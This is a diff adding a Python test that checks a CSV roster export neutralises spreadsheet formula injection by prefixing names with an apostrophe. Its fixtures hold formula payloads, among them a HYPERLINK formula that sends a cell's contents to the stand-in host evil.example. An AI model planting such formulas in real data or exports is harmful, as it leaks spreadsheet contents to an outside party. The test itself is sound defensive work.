@@ -167,3 +167,37 @@ def test_expiring_soon_in_csv_and_json_agrees_with_the_rule(state, cast):
     assert {r["certification_number"]: r["expiring_soon"] == "true" for r in rows} == expected
     assert {r["certification_number"]: r["expiring_soon"] for r in results} == expected
     assert sum(expected.values()) == 3
+
+
+def test_names_that_spreadsheets_would_run_as_formulas_come_out_as_text(state, cast):
+    """OWASP "CSV injection": a cell starting with =, +, -, @, a tab or a carriage return is a
+    formula to a spreadsheet. Such names reach the CSV with a leading apostrophe, as in the
+    county roster CSV (one helper: core.spreadsheet)."""
+    updated = datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC)
+    hostile = {
+        "PSS-0000011": ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)"),
+        "PSS-0000012": ("-2+3", "+1"),
+        "PSS-0000013": ("\t=1", "\r=2"),
+        "PSS-0000014": ("Ana", "Reyes-Lopez"),
+    }
+    for number, (first, last) in hostile.items():
+        CertificationFactory(
+            number=number,
+            issuing_county=cast.county,
+            first_name=first,
+            last_name=last,
+            updated_at=updated,
+        )
+
+    rows = list(csv.DictReader(io.StringIO(body(state.get(URL)), newline="")))
+
+    names = {row["certification_number"]: (row["first_name"], row["last_name"]) for row in rows}
+    assert names == {
+        "PSS-0000011": ('\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(1+1)"),
+        "PSS-0000012": ("'-2+3", "'+1"),
+        "PSS-0000013": ("'\t=1", "'\r=2"),
+        "PSS-0000014": ("Ana", "Reyes-Lopez"),
+    }
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
+    )
